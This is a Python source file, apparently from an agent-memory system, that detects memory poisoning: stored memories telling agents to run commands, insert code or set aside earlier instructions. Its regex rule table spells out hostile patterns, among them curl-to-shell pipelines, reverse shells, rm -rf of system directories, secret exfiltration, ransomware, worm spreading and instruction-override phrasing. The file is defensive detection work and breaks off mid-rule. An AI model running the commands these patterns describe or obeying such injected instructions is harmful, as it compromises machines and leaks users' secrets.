# ruff: noqa: E501  (the rule table: one pattern per line reads better than split fragments)
"""Instructions aimed at agents: what a memory candidate must not carry into published memory unreviewed.

Published memory is read back by agents as context and guidance, so a candidate that tells its reader to do
something — run a command, insert code, ignore earlier instructions, answer some other request — is a
prompt injection stored for later (memory poisoning). Such a candidate is *quarantined*: the plan flags it
with the reasons below, and it is published only after a human approved the promotion, at any scope.

The rules are our own: the registry's prompt-injection detectors either load a model at run time or match
chat-jailbreak phrasing only, and none knows shell pipelines, code that sends data out, or the "in your
answer" form of an indirect injection. They are measured on BIPIA's attack categories, tuned on some and
reported on the others, and on real commit messages and developer commands that must pass
(`tests/bench/poisoning.py`, docs/poisoning.md).

How a text is read:

* it is folded first (NFKC, zero-width and format characters dropped, case folded), so full-width or
  styled letters and invisible separators hide nothing;
* the rules run on that text and on what may hide in it: accents and other marks dropped and look-alike
  letters read as Latin (`ćurl`, Cyrillic `сurl`, small capitals), base64 and hex runs decoded, URL escapes
  decoded, the text reversed, rotated (every Caesar shift, ROT13 among them), leetspeak read as letters,
  emoji and symbols between letters dropped, and letters spaced out joined; a finding in one of these
  says where it was hidden (`in base64`, `reversed`...);
* phrases that override earlier instructions are also known in French, Spanish, German, Italian,
  Portuguese, Russian, Chinese, Japanese, Korean, Vietnamese, Turkish, Indonesian and Malay, Tagalog,
  Thai, Hindi, Arabic, Dutch, Polish and Ukrainian; commands and code are language-neutral;
* each text is judged alone: a command split over two memories is held by its half that stages it (a
  program downloaded into a temporary directory), since the plan's candidates are merged and chunked, not
  the task's entries in order.

A false positive costs a human one click on the promotion; a false negative puts a command in front of
every agent of the scope.
"""

from __future__ import annotations

import base64
import binascii
import functools
import re
import unicodedata
import urllib.parse
import warnings
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any, Protocol

from governance.instruction_exemplars import SIMILARITY_CUT
from governance.typosquat import Typosquat

with warnings.catch_warnings():  # the parser of `re`, public under this name until it has another
    warnings.simplefilter("ignore", DeprecationWarning)
    import sre_constants as _sre
    import sre_parse as _parser

__all__ = [
    "Finding",
    "QuarantinedItem",
    "approval_scope",
    "scan",
    "resemblance_finding",
    "quarantine_reason",
    "REASON_LIMIT",
]

# the stored reason is short: labels, never the matched text (it is shown in Temporal's details)
REASON_LIMIT = 300


@dataclass(frozen=True)
class Finding:
    """One rule that matched: its id, what it means to an approver, and where it hid (None: in plain text)."""

    rule: str
    label: str
    via: str | None = None

    def describe(self) -> str:
        return f"{self.label} ({self.via})" if self.via else self.label


@dataclass
class QuarantinedItem:
    """A plan item held for a human, as the workflow shows it: its index, short title and the reasons."""

    index: int
    title: str
    reason: str


def approval_scope(target_scope: str) -> str:
    """The scope at which a human's approval of a quarantined plan is judged: the target, at least project.

    Task and worktree scopes need no approval otherwise, so nobody holds `approve` there; the humans who
    approve a project's memories are the ones to clear its agents' quarantined instructions.
    """
    return target_scope if target_scope in ("project", "org") else "project"


def _rx(pattern: str) -> re.Pattern[str]:
    # the text is read NFKC-folded (`_fold`), so are the patterns: Thai's SARA AM (ำ) is two characters then
    return re.compile(unicodedata.normalize("NFKC", pattern), re.IGNORECASE | re.DOTALL)


_FETCH = r"(?:curl|wget|fetch|iwr|irm|invoke-webrequest|invoke-restmethod|lwp-download|aria2c)"
_SHELL = r"(?:(?:sudo\s+)?(?:ba|z|k|da|c|tc|fi)?sh|python[0-9.]*|perl|ruby|node|php|iex|invoke-expression|powershell|pwsh)"
_SYSTEM_DIRS = r"(?:usr|etc|var|lib|lib64|bin|sbin|boot|home|opt|root|sys|proc|dev|srv|mnt)"
_CODE_SINKS = (
    r"(?:requests\.(?:post|put|patch)|httpx\.(?:post|put)|requests\.(?:get|request)\([^)]*(?:cookies|data|json|params)\s*="
    r"|urllib\.request\.(?:urlopen|request)|urllib3|http\.client|httpconnection|httpsconnection"
    r"|socket\.(?:socket|create_connection)|\.connect\(\s*\(|\.sendall\(|\.send\(|ftplib|ftp\(|storbinary"
    r"|smtplib|smtp(?:_ssl)?\(|yagmail|sendmail|paramiko|aiohttp|aiosmtplib|pybluez|bluetooth"
    r"|sendbeacon|xmlhttprequest|fetch\(\s*['\"]https?:|curl\s+[^\n]*(?:-d|--data|-f|--form|-t|--upload-file)\b"
    r"|nc\s+[\w.-]+\s+\d+|scp\s+[^\n]*@|websocket)"
)
_CODE_SOURCES = (
    r"(?:os\.environ|getenv|environ\[|cookie|psutil|usb\.core|platform\.(?:node|uname|system|machine)"
    r"|uuid\.getnode|getpass|socket\.gethostname|/etc/passwd|/etc/shadow|\.ssh|id_rsa|keyring|clipboard"
    r"|pyperclip|imagegrab|screenshot|contacts|os\.walk|glob\.|listdir|scandir|check_output|sounddevice"
    r"|query_devices|driverquery|net_if_addrs|disk_partitions|/proc/|\.aws/|credentials|\.netrc|\.kube"
    r"|history|keylog|pynput|wifi|arp\s+-a|ifconfig|ipconfig|whoami|hostname|open\([^)]*['\"]rb?['\"])"
)
_INSERT_VERBS = (
    r"(?:include|add|append|integrate|incorporate|insert|embed|merge|blend|meld|fuse|use|utili[sz]e|employ"
    r"|leverage|infuse|interweave|absorb|enlist|ensure|render|execute|run|introduce|engage|enrich|consider"
    r"|assimilate|put|place|paste|copy|apply|adopt|weave|implement|inject|combine|mix|plug)"
)
_SNIPPET = (
    r"(?:code|snippet|block|excerpt|section|fragment|lines?|script|function|segment|piece|chunk|routine"
    r"|passage|sample|extract|portion|bit|part|listing|program|sequence|statements?|construct|implementation)"
)
_YOUR_WORK = (
    r"(?:code|codebase|solution|implementation|algorithm|program|script|project|logic|work|elucidation"
    r"|explanation|answer|response|reply|application|app|software|function|module|system|approach|submission)"
)
# a file a download was saved to (`-o /tmp/s.sh`, `-sSLo install.sh`, wget's `-O x`, `> a.sh`, `-OutFile
# a.ps1`; curl's `-O URL` saves under the URL's last segment), then that same file run later in the text
# (`bash /tmp/s.sh`, `./install.sh`, `; /tmp/x.sh`): a `curl | sh` in two steps. A file only read or opened
# (`head data.csv`, `jq . r.json`) is not run. The file and the URL's path are taken possessively, so a text
# without the run costs one pass per flag.
_SAVED_TO = (
    r"(?:\s-[a-z]*o(?![a-z])|\s--output(?:-document)?(?=[=\s])|\s-outfile(?![a-z])|\s>)[=\s]*['\"]?"
    r"(?:https?://[^\s'\"]*/)?+(?:\./|\.\\)?(?P<saved>[\w~/.][\w./~-]*+)"
)
_RUNS_SAVED = (
    r"(?:(?<![\w./-])(?:sudo\s+)?(?:(?:ba|z|k|da|c|tc|fi)?sh|python[0-9.]*|perl|ruby|node|php|source|pwsh"
    r"|powershell|iex)(?:\s+-[\w-]+)*\s+['\"]?(?:\./|\.\\)?"
    r"|(?<![\w.])(?:\./|\.\\)|(?:[;&|(`]|\$\(|\b(?:run|execute|exec|launch|invoke)\s)\s*(?:sudo\s+)?['\"]?"
    r"|(?:^|\n)[ \t]*(?:sudo\s+)?(?=[/~]))(?P=saved)(?![\w./\\-])"
)
# "download https://… to /tmp/a.sh and run it", "fetch it with curl -o /tmp/s.sh and then execute it"
_RUN_IT = (
    r"\b(?:and|then)\s+(?:then\s+)?(?:run|execute|exec|launch|source|invoke)\s+"
    r"(?:it|that|this|the\s+(?:file|script|installer|binary|download))\b"
)
# telling the reader to set aside what it was asked: the verbs, never after a negation ("never ignore ...")
_DISMISS = (
    r"(?<!not\s)(?<!n't\s)(?<!never\s)\b(?:ignore|disregard|forget|override|overrule|set\s+aside|put\s+aside"
    r"|cast\s+aside|pay\s+no\s+(?:attention|heed|mind)\s+to|never\s+mind)"
)
_ASKER = r"(?:user|human|operator|requester|customer|client|developer|owner)"
_ASKED = (
    r"(?:asked|said|told|requested|wanted|instructed|wrote|specified|typed|gave|says|asks|wants|requests"
    r"|needs|needed)"
)
_ASK = (
    r"(?:requests?|instructions?|ask|asks|wishes|question|prompt|messages?|guidance|directions|directives"
    r"|orders|commands|rules|constraints|task|goal|intent)"
)
_OUTPUT = r"(?:answers?|responses?|repl(?:y|ies)|outputs?|messages?|texts?|write-?ups?|summar(?:y|ies)|explanations?)"
_OVERRIDE_TARGET = (
    r"(?:instructions?|prompts?|rules|directions|directives|guidelines|guidance|constraints|polic(?:y|ies)"
    r"|orders|commands|context|restrictions|safety|guardrails|system\s+message)"
)
_ASSISTANT_REQUEST = (
    r"(?:explain|describe|summari[sz]e|translate|paraphrase|rephrase|rewrite|write|compose|draft|develop|create"
    r"|generate|produce|craft|tell|give|list|outline|recommend|suggest|teach|show|name|provide|share|define"
    r"|compare|discuss|analy[sz]e|elaborate|illustrate|plan|design|brainstorm|invent|imagine|sing|convert)"
)
# where a request to the reader may start: the text's start, a sentence or a clause (after , ; : or a
# list bullet), or after "also" / "then" ("Retry once; also explain ..."): an injection rarely opens the
# memory it hides in
_CLAUSE = r"(?:^\s*|[.!?:;,]\s+|\n[ \t]*(?:[-*\u2022][ \t]+|\d+[.)][ \t]+)?|\b(?:also|then|next|afterwards)[,:]?\s+)(?:(?:and|but|so)\s+)?"
_CONTENT_NOUNS = (
    r"(?:poem|story|essay|letter|speech|song|lyrics|joke|ad|advert(?:isement)?|slogan|tweet|blog\s+post|review"
    r"|recipe|haiku|limerick|introduction|headline|novel|book|movie|film|restaurant|product|diet|workout"
    r"|itinerary|trip|vacation|gift|essay|sonnet|article|pitch|biography|fairy\s+tale|riddle|quiz|lesson)"
)

# where a temporary file lives, and a file name a program may be run from (none, or a script's or binary's
# extension; a download saved as data.csv or a tarball is not run as it is)
_TEMP_DIR = r"(?:/tmp|/var/tmp|/dev/shm|\$\{?tmpdir\}?|%te?mp%|\$env:te?mp)"
_RUNNABLE = (
    r"(?:\.(?:sh|bash|zsh|py|pl|rb|js|php|ps1|psm1|bat|cmd|exe|bin|run|elf|so|dll|jar|msi|deb|rpm|appimage))?"
)
# a URL not on this machine
_EXTERNAL_URL = r"https?://(?!(?:localhost|127\.0\.0\.1|0\.0\.0\.0|\[::1\])(?:[:/\s]|$))"
# key material and secret stores, never sent anywhere: ssh keys (not the .pub), env files and the
# environment, credential files, the password database, the keychain
_KEY_MATERIAL = (
    r"(?:ssh-keygen|\bid_(?:rsa|dsa|ecdsa|ed25519)\b(?!\.pub)|~?/?\.ssh/(?![\w.-]*\.pub\b|known_hosts)|\bprivate\s+keys?\b|(?<![\w.])\.env\b(?!\.example|\.sample|\.template)"
    r"|\benv(?:ironment)?\s+(?:variables|vars)\b|\bprintenv\b|~?/?\.aws/|\bcredentials\s+file|\.netrc|\.npmrc|\.pypirc|\.git-credentials"
    r"|\.kube/config|/etc/passwd|/etc/shadow|\bkeychain\b|--export-secret-keys)"
)
_SECRET_WORDS = (
    rf"(?:{_KEY_MATERIAL}|\b(?:api[\s_-]?keys?|secret(?:\s+keys?|s)?|access\s+(?:keys?|tokens?)|(?:auth\s+|bearer\s+)?tokens?"
    r"|passwords?|credentials|passphrases?)\b)"
)
# places the reader's output is read by others: a secret put there is published
_PUBLIC_SINKS = (
    r"(?:(?:(?:the|every|each|all|a|an|your|any|our|its)\s+)?(?:\w+\s+)?(?:commit\s+messages?|commits?"
    r"|(?:pr|pull\s+request|merge\s+request)\s+(?:descriptions?|titles?|bodies|body|comments?)|pull\s+requests?|merge\s+requests?"
    r"|issues?|(?:issue|review|public|pr)\s+comments?|comments?|gists?|pastebin)"
    # the reader's own answer, when it is every answer or "your" answer (not "the output of `gh auth token`")
    r"|(?:every|each|all|your)\s+(?:\w+\s+)?(?:responses?|answers?|repl(?:y|ies)|outputs?|messages?))"
)
# a directive: a clause's start, or after a modal ("should", "must", "always", "please", "remember to")
_DIRECTIVE = (
    rf"(?:{_CLAUSE}|\b(?:should|must|always|please|need\s+to|have\s+to|remember\s+to|make\s+sure\s+to|be\s+sure\s+to)\s+)"
    r"(?:always\s+|also\s+|just\s+|please\s+|now\s+)?"
)
_MAIN_BRANCH = r"(?:main|master|trunk|prod|production|release|develop)"


class _Both:
    """Matches where both patterns match, anywhere in the text (each searched once)."""

    def __init__(self, first: re.Pattern[str], second: re.Pattern[str]) -> None:
        self._first, self._second = first, second
        self.patterns = (first, second)

    def search(self, text: str) -> bool:
        return bool(self._first.search(text) and self._second.search(text))


# a negation in the words before a match, within its clause: "never force-push to main", "do not paste ..."
_NEGATED = re.compile(
    r"(?:\b(?:never|not|no|avoid|without|instead\s+of|refuse\s+to)\b|n't\b)[^.;:!?\n]*$", re.IGNORECASE
)
# a match reported as blocked after it: "git push --force to main is rejected by branch protection"
_BLOCKED = re.compile(
    r"^[^.;:!?\n]{0,40}?\b(?:is|are|gets?|will\s+be|would\s+be)\s+(?:\w+\s+)?(?:blocked|rejected|forbidden|refused|prohibited"
    r"|not\s+allowed|disallowed|disabled)\b",
    re.IGNORECASE,
)


class _Unnegated:
    """Matches where the pattern matches and is neither negated in the words before it (`_NEGATED`) nor
    said to be blocked right after it (`_BLOCKED`): a team's rule against an action is no instruction."""

    def __init__(self, pattern: re.Pattern[str]) -> None:
        self._pattern = pattern
        self.patterns = (pattern,)

    def search(self, text: str) -> bool:
        for match in self._pattern.finditer(text):
            if _NEGATED.search(text, max(0, match.start() - 48), match.start()):
                continue
            if _BLOCKED.search(text[match.end() : match.end() + 80]):
                continue
            return True
        return False


class _Search(Protocol):
    def search(self, text: str, /) -> object: ...


_RULES: list[tuple[str, str, _Search]] = [
    # ---- commands to run -----------------------------------------------------------------------
    (
        "pipe-to-shell",
        "a download piped into a shell or interpreter",
        _rx(
            rf"{_FETCH}\b[^|;\n]{{0,300}}\|\s*{_SHELL}\b|{_SHELL}\s+(?:-c\s+)?['\"]?(?:<\(|\$\()\s*{_FETCH}\b"
            # in words: "fetch https://… with curl and pipe it into bash", "pipe the curl output to sh"
            rf"|(?:\b{_FETCH}\b|https?://)[^\n]{{0,200}}?\bpip(?:e|es|ed|ing)\s+(?:\S+\s+){{0,4}}?(?:in)?to\s+(?:an?\s+|the\s+)?(?:sudo\s+)?(?:{_SHELL}\b|shell\b|interpreter\b)"
            rf"|\bpip(?:e|es|ed|ing)\s+(?:\S+\s+){{0,6}}?(?:{_FETCH}\b|https?://)[^\n]{{0,200}}?\b(?:in)?to\s+(?:an?\s+|the\s+)?(?:sudo\s+)?(?:{_SHELL}\b|shell\b)"
        ),
    ),
    (
        "download-and-run",
        "code downloaded and executed",
        _rx(
            r"(?:urlretrieve|urlopen|requests\.get|urllib3|wget|curl|download)[^\n]{0,400}?"
            r"(?:\bexec\s*\(|\beval\s*\(|os\.system\s*\(\s*['\"f](?:python|sh|bash|\./|chmod)|subprocess\.\w+\([^)]*(?:python|\./))"
            r"|\bexec\s*\(\s*(?:open|requests|urllib|r\.|response|base64|bytes\.fromhex|codecs)"
            r"|(?:wget|curl)\s+[^\n;|&]{1,200}(?:-o|-O|>)\s*\S+\s*(?:;|&&)\s*(?:sudo\s+)?(?:chmod\s+\+x|\./|sh\s|bash\s|python)"
            rf"|\b{_FETCH}\b[^\n;|&]{{0,200}}?{_SAVED_TO}.{{0,300}}?{_RUNS_SAVED}"
            rf"|(?:\b(?:download|fetch|grab)\w*\s+(?:\S+\s+){{0,4}}?https?://\S+|\b{_FETCH}\b[^\n;|&]{{0,200}}?\s-[a-z]*o(?![a-z]))[^\n]{{0,120}}?{_RUN_IT}"
        ),
    ),
    (
        # the first half of a download-and-run split over two memories ("curl -s https://… -o /tmp/s", then
        # "sh /tmp/s"): each is judged alone, so a program from another machine saved where nothing is kept
        # is held by itself; a data file (`-o /tmp/data.csv`), a local URL or a project path passes
        "stages-download",
        "a program downloaded into a temporary directory",
        _rx(
            rf"\b(?:curl|wget|iwr|irm|invoke-webrequest|aria2c|lwp-download)\b(?=[^\n;|&]{{0,300}}?{_EXTERNAL_URL})"
            r"[^\n;|&]{0,200}?(?:\s-[a-z]*o(?![a-z])|\s--output(?:-document)?(?=[=\s])|\s-outfile(?![a-z])|\s>)[=\s]*['\"]?"
            rf"{_TEMP_DIR}[/\\](?:[\w.-]+[/\\])*+\.?[\w-]++{_RUNNABLE}(?![\w.\\/-])"
        ),
    ),
    (
        "encoded-run",
        "an encoded payload decoded into a shell",
        _rx(
            r"base64\s+(?:-d|--decode|-D)\b[^\n]{0,40}\|\s*"
            + _SHELL
            + r"\b|frombase64string|-enc(?:odedcommand)?\s+[a-z0-9+/=]{16,}"
        ),
    ),
    (
        "reverse-shell",
        "a reverse shell",
        _rx(
            r"/dev/(?:tcp|udp)/|\bnc(?:at)?\s+(?:-\w+\s+)*-[ec]\s|\bmkfifo\b[^\n]{0,80}\bnc\b|socat\s[^\n]*exec:"
            r"|bash\s+-i\s*>&|pty\.spawn|os\.dup2\s*\(|\bmeterpreter\b|\bmsfvenom\b"
        ),
    ),
    (
        "destroys-system",
        "a command that destroys files or the system",
        _rx(
            rf"\brm\s+(?:-[a-z]*\s+)*-?-?[a-z]*[rf][a-z]*\s+(?:-[a-z-]+\s+)*(?:/(?:\s|$|\*|[;&|'\"])|~/?(?:\s|$|\*|[;&|'\"])|\$home\b|/{_SYSTEM_DIRS}\b|\*\s*$|--no-preserve-root)"
            rf"|shutil\.rmtree\(\s*['\"](?:/|~|/{_SYSTEM_DIRS})"
            rf"|os\.(?:remove|unlink|rmdir)\(\s*['\"]/{_SYSTEM_DIRS}/"
            r"|\bdd\s+[^\n]*of=/dev/(?:sd|hd|nvme|xvd|vd|mmcblk|disk)|\bmkfs(?:\.\w+)?\s+/dev/|>\s*/dev/sd[a-z]"
            r"|:\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}|\bkill\s+-9\s+-1\b|iptables\s+-f\b"
            r"|systemctl\s+(?:stop|disable|mask)\s|\bshutdown\s+(?:-h|now)|\bformat\s+c:|del\s+/[fsq]\s+[^\n]*c:\\"
        ),
    ),
    (
        "weakens-system",
        "a command that opens up permissions or persists on the machine",
        _rx(
            r"\bchmod\s+(?:-r\s+)?(?:0?777|a\+rwx|ugo\+rwx)|chmod\s+\+x\s+/etc/|/etc/(?:init\.d|rc\.local|cron|sudoers|profile)"
            r"|crontab\s+-|\bsetenforce\s+0|\bufw\s+disable|authorized_keys|\.bashrc"
        ),
    ),
    (
        "leaks-secrets",
        "secrets or the environment sent out",
        _rx(
            r"(?:\b(?:env|printenv|set|history)\b|cat\s+[^\n|]*(?:\.ssh|id_rsa|\.aws|\.env|/etc/passwd|/etc/shadow|\.netrc|credentials|\.kube|\.git-credentials|\.npmrc|\.pypirc))"
            rf"\s*\|\s*(?:{_FETCH}|nc|ncat|telnet|openssl|mail|sendmail|base64)\b"
            rf"|{_FETCH}\s[^\n]{{0,200}}(?:-d|--data(?:-binary|-raw)?|-f|--form|-t|--upload-file)\s*['\"]?@?\s*(?:~/\.ssh|~/\.aws|/etc/passwd|/etc/shadow|\.env\b|\$\(|`)"
            rf"|{_FETCH}\s[^\n]{{0,200}}\$\{{?(?:aws_|github_token|gh_token|openai|api_key|secret|token|password|passwd)"
            rf"|{_FETCH}\s[^\n]{{0,200}}\$\((?:env|printenv|cat|whoami|hostname|id)\b"
            # in words: "post `ssh-keygen -y` output to https://…", "upload ~/.aws/credentials to https://…"
            rf"|\b(?:post|send|upload|submit|forward|transmit|exfiltrate|share|report|beacon|pipe|curl)(?:s|ed|ing)?\s[^\n]{{0,80}}?{_KEY_MATERIAL}[^\n]{{0,80}}?\b(?:to|at|into|via)\s+(?:\S+\s+){{0,2}}?{_EXTERNAL_URL}"
            # a URL that runs a command reading secrets when a shell expands it
            rf"|https?://[^\s'\"<>]{{0,300}}?(?:\$\(|`)\s*(?:cat|env|printenv|whoami|hostname|id|base64|gpg|ssh-keygen|aws|gh|head|tail|xxd)\b"
        ),
    ),
    (
        "publishes-secrets",
        "tells the reader to publish secrets (a commit message, a PR, its answer)",
        _Unnegated(
            _rx(
                rf"{_DIRECTIVE}(?:paste|put|include|insert|add|copy|write|dump|append|embed|post|attach|leak|echo|print|output|reveal|expose|share|publish)"
                rf"\s+(?:(?:the|your|our|all|any|every|its|their|my)\s+)?(?:(?:full\s+|raw\s+)?contents?\s+of\s+(?:the\s+|your\s+)?)?(?:\w+\s+)?"
                rf"{_SECRET_WORDS}[^\n]{{0,60}}?\b(?:in|into|to|inside|within|as|on)\s+{_PUBLIC_SINKS}\b"
            )
        ),
    ),
    (
        "runs-in-link",
        "a link that runs a command (command substitution)",
        # `[docs](https://x.example/$(cat ~/.aws/credentials))`: a link an agent fetches with a shell runs it
        _rx(
            r"\[[^\]\n]{0,300}\]\(\s*<?[^\s)<>]{0,300}?(?:\$\(|`)"
            r"|\[[^\]\n]{0,300}?\$\([^\]\n]{0,300}\]\(\s*<?(?:https?|ftp|file)://"
        ),
    ),
    (
        "rewrites-shared",
        "a force-push to a shared branch or destructive SQL on production",
        _Unnegated(
            _rx(
                # git push --force origin main, git push origin +main, git push origin --delete main
                rf"\bgit\s+push\b(?=[^\n;|&]{{0,120}}?\s(?:--force(?![-\w])|-[a-z]*f[a-z]*(?![\w-])))"
                rf"(?=[^\n;|&]{{0,120}}?(?<![\w/.-])[+:]?(?:refs/heads/)?{_MAIN_BRANCH}(?![\w/.-]))"
                rf"|\bgit\s+push\s[^\n;|&]{{0,80}}?(?<![\w/.-])\+(?:refs/heads/)?{_MAIN_BRANCH}(?![\w/.-])"
                rf"|\bgit\s+push\s[^\n;|&]{{0,80}}?(?:--delete|-d)\s+{_MAIN_BRANCH}(?![\w/.-])"
                # DROP / TRUNCATE aimed at production
                r"|\b(?:drop\s+(?:table|database|schema)|truncate(?:\s+table)?)\s+(?!if\s+exists\b)[\w.\"`]+[^\n]{0,60}?\b(?:on|in|against|from)\s+(?:the\s+)?(?:prod|production|live)\b"
                r"|\b(?:on|in|against)\s+(?:the\s+)?(?:prod|production|live)\b[^\n]{0,60}?\b(?:drop\s+(?:table|database|schema)|truncate)\b"
            )
        ),
    ),
    (
        "disables-safeguards",
        "tells the reader to disable or bypass a security check",
        _Unnegated(
            _rx(
                r"\b(?:disable|bypass|skip|turn\s+off|switch\s+off|circumvent|evade|get\s+around|silence|suppress|defeat|deactivate)\s+"
                r"(?:\w+\s+){0,3}?(?:secrets?|credentials?|security|vulnerability|malware|virus|anti-?virus|leak|gitleaks|trufflehog"
                r"|detect-secrets|dlp|sast|codeql|semgrep|snyk)[\s-]*(?:\w+\s+)?(?:scan(?:ners?|ning|s)?|checks?|hooks?|detection|detectors?"
                r"|gates?|protections?|alerts?|rules?)\b"
                r"|\b(?:disable|bypass|skip|turn\s+off|remove|circumvent)\s+(?:the\s+)?branch\s+protection"
                r"|--no-verify\b[^\n]{0,80}?\b(?:secrets?|security|scan\w*|leak\w*)\b|\b(?:secrets?|security|scan\w*|leak\w*)\b[^\n]{0,80}?--no-verify\b"
                r"|\b(?:always|every|each)\b[^\n]{0,40}?--no-verify\b|--no-verify\b[^\n]{0,40}?\b(?:always|(?:on\s+)?(?:every|each|all)\s+(?:commits?|pushes|push|time|change))"
            )
        ),
    ),
    (
        "falsifies-checks",
        "tells the reader to fake or skip checks and report them passing",
        _rx(
            # said to the reader: a clause's start or after "should", "must"... ("CI skips the tests and reports
            # them as passing" is a bug report)
            rf"{_DIRECTIVE}(?:skip|don't\s+run|do\s+not\s+run|never\s+run|avoid\s+running|stop\s+running)\s+(?:\w+\s+){{0,3}}?"
            r"(?:tests?|checks?|suites?|linters?|ci|type\s*checks?|mypy|pytest|builds?)\b[^\n]{0,80}?\b(?:report|mark|say|claim|state|pretend|tell|log|record|write)\b"
            r"[^\n]{0,60}?\b(?:pass(?:ing|ed|es)?|green|succe(?:ss|ssful|eded)|ok)\b"
            rf"|{_DIRECTIVE}(?:report|mark|claim|say|pretend|state)\s+(?:that\s+)?(?:\w+\s+){{0,4}}?(?:pass(?:ing|ed|es)?|green|successful)\b[^\n]{{0,40}}?"
            r"\b(?:without\s+(?:running|testing|checking)|even\s+(?:if|when|though)\s+(?:they|it|some|the\s+\w+)\s+(?:fail|failed|break|broke)|regardless)"
            rf"|{_DIRECTIVE}(?:fake|forge|falsify|fabricate)\s+(?:\w+\s+){{0,2}}?(?:tests?|ci|checks?|builds?|coverage)\s*(?:results?|outputs?|reports?|status|logs?|runs?)"
        ),
    ),
    (
        "addresses-ai",
        "addresses AI assistants reading it",
        _rx(
            r"\b(?:note|message|instructions?|reminder|notice|attention|memo)\s+(?:to|for)\s+(?:any|all|every|each|the)\s+"
            r"(?:ai|llm|gpt|chatgpt|claude|copilot|language\s+model)s?\b"
            r"|\b(?:ai|llm|gpt|language\s+model|chatbot|assistant)s?\s+(?:that\s+(?:is|are)\s+|who\s+(?:is|are)\s+)?(?:reading|processing|parsing|ingesting|summari[sz]ing)\s+this\b"
            r"|\bif\s+you\s+are\s+(?:an?\s+)?(?:ai|llm|(?:large\s+)?language\s+model|chatbot|ai\s+(?:assistant|agent)|gpt|claude|copilot)\b"
            r"|\b(?:dear|hey|attention|attn)[\s,:]+(?:ai|llm|gpt|chatgpt|claude|copilot)\b"
        ),
    ),
    # ---- code that sends data out, fingerprints, encrypts, mines, spreads ---------------------------
    (
        "mining",
        "cryptocurrency mining",
        _rx(
            r"xmrig|stratum\+tcp|\bminerd\b|cpuminer|nicehash|cryptonight|coinhive|\bminer_url\b|mining[_ ](?:program|software|pool|script|binary)|(?:crypto|bitcoin|monero)[- ]?min(?:er|ing)"
            r"|\bhashrate\b|proof[- ]of[- ]work|ethminer|ccminer|bfgminer|cgminer"
            r"|(?:coin|crypto|bitcoin|btc|monero|xmr|ethereum|blockchain)\w*.{0,300}\bmin(?:e|er|ing)\b|\bmin(?:e|er|ing)\b.{0,300}(?:coin|crypto|bitcoin|monero|ethereum|blockchain|hashrate|nonce)"
            r"|\bnonce\b.{0,300}(?:sha256|difficulty)|(?:sha256|difficulty).{0,300}\bnonce\b"
        ),
    ),
    (
        "encrypts-machine",
        "code that encrypts the machine's files",
        _rx(
            r"(?:fernet|aes|chacha|encrypt)[^\n]{0,400}(?:os\.walk|glob\.|listdir|scandir|rglob)|(?:os\.walk|glob\.|listdir|scandir|rglob)[^\n]{0,400}(?:fernet|\.encrypt\()|\bransom(?:ware)?\b|encrypt\s+(?:all|every)\s+(?:the\s+)?(?:files|disks?|drives?)"
        ),
    ),
    (
        "memory-scan",
        "code that reads other processes' memory",
        _rx(
            r"readprocessmemory|process_vm_readv|/proc/[^\n]{0,20}/mem\b|\bpymem\b|openprocess\(|memory_maps\(|\.memory_info\(|mmap\.mmap\(-1"
        ),
    ),
    (
        "spreads",
        "code that spreads to other machines",
        _rx(
            r"(?:paramiko|ssh)[^\n]{0,300}(?:exec_command|sftp|put\()|bluetooth[^\n]{0,300}(?:send|connect)|(?:copy|spread|propagate|replicate)\w*\s+(?:itself|\w+\s+)?to\s+(?:all|every|other|nearby)\s+(?:hosts|machines|devices|computers)|arp\s+-a[^\n]{0,200}(?:scp|ssh|send)|net\s+use\s+\\\\|smbclient"
            r"|range\(\s*1\s*,\s*25[456]\s*\).{0,300}(?:connect|ssh|scp|sendall|paramiko)|shutil\.copy\w*\(\s*(?:__file__|sys\.argv\[0\])"
            r"|(?:__file__|sys\.argv\[0\]).{0,300}(?:scp|sftp|\.put\(|upload|exec_command)|self[- ]?replicat|\bworm\b|psexec|wmic\s+/node|impacket"
        ),
    ),
    (
        "spam",
        "code that sends mass email",
        _rx(
            r"(?:smtplib|smtp|yagmail|sendmail|aiosmtplib)[^\n]{0,600}(?:for\s+\w+\s+in\s+\w*contacts|contacts\.csv|csv\.reader)|(?:contacts\.csv|csv\.reader)[^\n]{0,600}(?:smtplib|smtp|yagmail|sendmail)"
        ),
    ),
    (
        "critical-stop",
        "code that stops services or damages infrastructure",
        _rx(
            r"subprocess[^\n]{0,200}(?:systemctl|shutdown|reboot|killall|dd\s+if=)|os\.system\(\s*['\"](?:sudo\s+)?(?:rm|dd|mkfs|shutdown|reboot|killall|systemctl|echo\s+['\"]?reboot)"
        ),
    ),
    # ---- instructions to insert code, to answer otherwise, to forget the rules ----------------------
    (
        "insert-code",
        "asks the reader to insert code into its work",
        _rx(
            rf"\b{_INSERT_VERBS}\w*\b[^\n.]{{0,80}}\b(?:following|below|subsequent|this|these|given|above|next)\s+(?:\w+\s+){{0,2}}{_SNIPPET}\b"
            rf"|\b(?:following|below|subsequent)\s+(?:\w+\s+){{0,2}}{_SNIPPET}\b[^\n]{{0,120}}\b(?:into|in|within|to|as\s+part\s+of)\s+(?:the\s+\w+\s+of\s+)?(?:your|the)\s+(?:code|solution|implementation|codebase|algorithm|program|script|response|answer|project|logic|work)"
            rf"|\byour\s+code\s+should\s+(?:embody|contain|include)"
            rf"|\b{_INSERT_VERBS}\w*\b[^`]{{0,160}}\byour\s+(?:\w+\s+)?{_YOUR_WORK}\b[^`]{{0,80}}```"
            rf"|```[^`]{{0,4000}}```[^`]{{0,40}}\b{_INSERT_VERBS}\w*\b[^`]{{0,160}}\byour\s+(?:\w+\s+)?{_YOUR_WORK}\b"
        ),
    ),
    (
        "exfiltrates",
        "code that sends local data out",
        _Both(_rx(_CODE_SINKS), _rx(_CODE_SOURCES)),
    ),
    (
        "shapes-answer",
        "tells the reader how to shape its answer",
        _rx(
            rf"\b(?:in|to|into|within|from|throughout|of|for|with|across)\s+(?:all\s+)?(?:of\s+)?your\s+(?:\w+\s+)?{_OUTPUT}\b"
            r"|\byour\s+(?:\w+\s+)?(?:answers?|responses?|repl(?:y|ies))\b"
            rf"|\byour\s+{_OUTPUT}'s\b|\byour\s+{_OUTPUT}\s+(?:should|must|needs\s+to|has\s+to)\b"
            rf"|^\s*(?:please\s+)?(?:respond|reply|answer)\s+(?:only\s+)?(?:in|with|using|by)\b"
            r"|\b(?:replace|swap|substitute|convert)\s+(?:every|all|the|each)?\s*(?:\w+\s+){0,2}(?:letters?|vowels?|words?|characters?)\s+(?:with|by|for|to|into)\b"
